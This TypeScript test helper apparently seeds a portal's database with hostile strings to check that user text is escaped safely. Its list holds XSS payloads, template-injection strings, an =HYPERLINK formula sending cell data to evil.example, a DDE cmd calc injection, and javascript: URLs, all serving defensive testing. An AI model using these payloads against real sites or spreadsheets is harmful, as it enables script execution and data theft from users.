import { sql } from "drizzle-orm";
import type { Database } from "#server/platform/database/database.ts";
import { columnsOf } from "./kept.ts";

/** Set by whatever of these texts is run, and the attribute of what one of them slips into a page. */
export const RUN = "hostileTextWasRun";
export const SLIPPED = "data-slipped-in";

const run = `window.${RUN}=1`;

/** Texts that would do something where they are not shown as text, and some that only try a page's patience. */
export const HOSTILE: readonly string[] = [
  `<script>${run}</script><b ${SLIPPED}>x</b>`,
  `<img ${SLIPPED} src=x onerror="${run}">`,
  `"><svg ${SLIPPED} onload=${run}><a href="javascript:${run}">x</a>`,
  `' onmouseover='${run}' autofocus onfocus='${run}' ${SLIPPED}='`,
  `</title></textarea></style></script><iframe ${SLIPPED} srcdoc="<script>parent.${RUN}=1</script>">`,
  `javascript:${run}`,
  `<!--<p ${SLIPPED}>&lt;script&gt;${run}&lt;/script&gt; &amp;quot; %3Cscript%3E`,
  `{{constructor.constructor('${run}')()}}\${${run}} <style ${SLIPPED}>*{display:none}</style>`,
  `<p:${"W".repeat(1500)}`,
  "\u202eenignE\u202c \u2066‏שלום עולם مرحبا\u2069",
  "a\u200b\u200c\u200d\u2060\ufeffb\u00ad",
  `=HYPERLINK("http://evil.example?"&A1,"x")`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "\t=1+1",
  "\r=1+1",
];

/** What the portal itself reads in these columns; a person never writes them. */
const MACHINE =
  /(_id|_number|kind|status|state|action|entity|purpose|reference|token|hash|sid|key|held_for|payment_method|payment_type|currency|step|event_type|user_name|admin_privileges|holder|headers|rows|recipient|email|image_url|external_url|attachments|title_key|card|outcome|word|version|source|fields|text|html)$/;
const TABLES =
  /^(members|users|events|registrations|payments|payment_charges|payment_refunds|dues_payments|audit_log|outbox|imports|manual_registrations|reconciliations|reconciliation_differences)$/;

/** Writes one of these texts into every column that holds words of a person, as long as the column takes it. */
export async function fillWithHostileTexts(db: Database): Promise<string[]> {
  const filled: string[] = [];
  for (const { table_name: table, column_name: column, data_type: type } of await columnsOf(db)) {
    if (type !== "text" || !TABLES.test(table) || MACHINE.test(column)) continue;
    for (const most of [2000, 200, 100, 50]) {
      if (!(await fill(db, table, { column, most }))) continue;
      filled.push(`${table}.${column}`);
      break;
    }
  }
  const [text = ""] = HOSTILE;
  await db.execute(sql`update attendees set first_name = ${text}, last_name = ${text}, table_number = null,
    seating_requests = ${text}, is_listed = true where kind = 'guest'`);
  const changes = JSON.stringify({ firstName: text, adminComments: text, [text]: text });
  await db.execute(sql`update audit_log set after = ${changes}::jsonb where id % 3 = 0`);
  await db.execute(sql`update events set image_url = ${`javascript:window.${RUN}=1`},
    external_url = ${`javascript:window.${RUN}=1`} where id % 2 = 0`);
  return filled;
}

async function fill(
  db: Database,
  table: string,
  { column, most }: { column: string; most: number },
): Promise<boolean> {
  const texts = HOSTILE.map((text) => sql`${text}`);
  // By the row's own id: where it lies in its file depends on what was written before.
  const which = sql`abs(hashtext(${column} || coalesce(to_jsonb(t) ->> 'id', to_jsonb(t) ->> 'transaction_id'))) % ${sql.raw(String(HOSTILE.length))}`;
  const one = sql`left((array[${sql.join(texts, sql`, `)}])[1 + ${which}], ${sql.raw(String(most))})`;
  try {
    await db.execute(
      sql`update ${sql.raw(`"${table}"`)} t set ${sql.raw(`"${column}"`)} = ${one} where ${sql.raw(`"${column}"`)} is not null`,
    );
    return true;
  } catch {
    // Longer than the column may be, or one of a few words that it knows.
    return false;
  }
}
